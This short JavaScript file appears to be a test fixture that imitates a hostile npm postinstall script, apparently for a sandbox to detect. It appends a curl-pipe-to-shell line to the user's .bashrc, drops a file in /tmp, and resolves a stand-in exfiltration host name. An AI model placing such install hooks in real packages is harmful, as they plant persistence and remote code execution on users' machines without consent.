// What a hostile postinstall does as npm installs the package: it leaves
// a line in the user's shell start-up file and a file in /tmp, and
// resolves a host name (a download, or data sent in the name).
const fs = require('fs'), os = require('os'), dns = require('dns');
fs.appendFileSync(os.homedir() + '/.bashrc', 'curl -s https://install.fixture.invalid/x | sh\n');
fs.writeFileSync('/tmp/mcpsandbox-fixture-postinstall', 'dropped\n');
dns.lookup('install.fixture-exfil.example', () => {});
